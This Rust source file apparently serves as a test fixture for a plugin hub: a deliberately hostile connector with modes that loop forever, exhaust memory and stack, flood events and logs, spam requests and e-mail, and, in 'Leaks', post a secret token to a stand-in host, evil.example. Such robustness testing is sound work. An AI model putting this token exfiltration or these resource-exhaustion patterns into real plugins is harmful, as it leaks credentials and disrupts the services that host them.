//! A connector that does harm: `{"mode": "loops"}` and so on in its settings. The hub must outlive all of it.

use std::hint::{black_box, spin_loop};

use tomada_sdk::prelude::*;
use tomada_sdk::{Emitted, log};

#[derive(Deserialize)]
struct Settings {
    mode: Mode,
    /// Where `reaches`, `leaks` and `pesters` go.
    #[serde(default = "evil")]
    url: String,
}

fn evil() -> String {
    "https://evil.example/".to_owned()
}

#[derive(Clone, Copy, Deserialize)]
#[serde(rename_all = "kebab-case")]
enum Mode {
    /// Does no harm, for comparison.
    Behaves,
    /// Never returns.
    Loops,
    /// Never returns, but calls the hub all the time.
    Asks,
    /// Takes memory without end.
    Grows,
    /// Stops without a word.
    Traps,
    Panics,
    /// Calls itself without end, with nothing on the stack in linear memory.
    Recurses,
    /// Calls itself without end, with 4 KiB in linear memory each time.
    Smashes,
    /// Emits one event of 100 MB.
    Floods,
    /// Emits one event of 2 MiB: within any guest's memory and beyond what an event may have.
    Swells,
    /// Emits a million events.
    Emits,
    /// Emits 257 events, one more than may be.
    Overflows,
    /// Emits 4,096 events that are one and the same MiB of its memory, and 4 GiB once the hub has copied them.
    Multiplies,
    /// Logs a million lines.
    Logs,
    /// Logs one line of 16 MiB.
    Shouts,
    /// Leaves a note of 8 MiB.
    Boasts,
    /// Wants 4 GiB of random bytes.
    Draws,
    /// Sends one request to `url`, granted or not.
    Reaches,
    /// Sends requests to `url` as long as it is let.
    Pesters,
    /// Sends e-mails as long as it is let.
    Writes,
    /// Sends the secret `token` to `url`, bound to it or not, and puts it into log and note.
    Leaks,
    /// Logs the payload and panics with it.
    Tells,
    /// The failures that are said in the type.
    Transient,
    RateLimited,
    Unauthorized,
    Rejected,
    Misconfigured,
}

#[connector(name = "hostile", hosts = ["settings.url"], secrets = ["token"], mail = true, emits = ["harm.done"])]
fn handle(cx: &Context<Settings>, event: Event<Raw>) -> Result<Receipt, Failure> {
    const SAID: &str = "the connector was told to fail so";
    let receipt = Receipt::new();
    match cx.settings.mode {
        Mode::Behaves => Ok(receipt),
        Mode::Loops => loop {
            spin_loop();
        },
        Mode::Asks => loop {
            black_box(cx.now_ms());
        },
        Mode::Grows => {
            let mut hoard = Vec::new();
            loop {
                hoard.push(black_box(vec![1_u8; 1 << 20]));
            }
        }
        Mode::Traps => std::process::abort(),
        Mode::Panics => panic!("the connector was told to panic"),
        Mode::Recurses => Ok(receipt.note(recurse(3, u64::MAX).to_string())),
        Mode::Smashes => Ok(receipt.note(smash(1).to_string())),
        Mode::Floods => Ok(emitting(vec![harm(vec![b' '; 100_000_000])])),
        Mode::Swells => Ok(emitting(vec![harm(vec![b' '; 2 << 20])])),
        Mode::Emits => Ok(emitting((0..1_000_000).map(|_| harm(Vec::new())).collect())),
        Mode::Overflows => Ok(emitting((0..257).map(|_| harm(b"{}".to_vec())).collect())),
        Mode::Multiplies => Ok(emitting(multiplied(4096))),
        Mode::Logs => {
            (0..1_000_000).for_each(|number| log::info(format!("line {number}")));
            Ok(receipt)
        }
        Mode::Shouts => {
            log::info("a".repeat(16 << 20));
            Ok(receipt)
        }
        Mode::Boasts => Ok(receipt.note("a".repeat(8 << 20))),
        Mode::Draws => Ok(receipt.note(cx.random(u32::MAX).len().to_string())),
        Mode::Reaches => Ok(cx.get(&cx.settings.url).send()?.ok()?.into()),
        Mode::Pesters => loop {
            black_box(cx.get(&cx.settings.url).send()).ok();
        },
        Mode::Writes => loop {
            cx.mail().to("ana@example.com").subject("harm").text("harm").send()?;
        },
        Mode::Leaks => {
            let token = cx.secret("token")?;
            log::info(format!("the token is {token}"));
            let answer = cx.post(&cx.settings.url).bearer(&token).body(format!("the token is {token}")).send()?.ok()?;
            let echo = String::from_utf8_lossy(answer.body()).into_owned();
            Ok(receipt.note(format!("the token is {token}, and the target says {echo}")))
        }
        Mode::Tells => {
            let told = String::from_utf8_lossy(&event.payload).into_owned();
            log::error(&told);
            panic!("the connector tells: {told}")
        }
        Mode::Transient => Err(Failure::transient("told-to-fail", SAID)),
        Mode::RateLimited => Err(Failure::rate_limited(Some(1_000), "told-to-fail", SAID)),
        Mode::Unauthorized => Err(Failure::unauthorized("told-to-fail", SAID)),
        Mode::Rejected => Err(Failure::rejected("told-to-fail", SAID)),
        Mode::Misconfigured => Err(Failure::misconfigured("told-to-fail", SAID)),
    }
}

fn emitting(emitted: Vec<Emitted>) -> Receipt {
    Receipt { emitted, ..Receipt::new() }
}

fn harm(payload: Vec<u8>) -> Emitted {
    Emitted { event_type: "harm.done".to_owned(), payload, idempotency_key: None }
}

/// Breaks the rules of Rust and keeps those of the canonical ABI: lists may lie anywhere in memory, also in one place.
#[expect(unsafe_code, reason = "no safe code has two vectors in one place")]
fn multiplied(times: usize) -> Vec<Emitted> {
    let shared = vec![b' '; 1 << 20].leak();
    (0..times).map(|_| harm(unsafe { Vec::from_raw_parts(shared.as_mut_ptr(), shared.len(), shared.len()) })).collect()
}

/// Ackermann's function, which goes down all of `n` before it returns once.
fn recurse(m: u64, n: u64) -> u64 {
    match (m, n) {
        (0, n) => n + 1,
        (m, 0) => recurse(m - 1, 1),
        (m, n) => recurse(m - 1, recurse(m, n - 1)),
    }
}

#[expect(unconditional_recursion, reason = "it is the harm that is asked for")]
fn smash(depth: u64) -> u64 {
    let frame = black_box([depth; 512]);
    frame[0] + smash(frame[511] + 1) + frame[1]
}
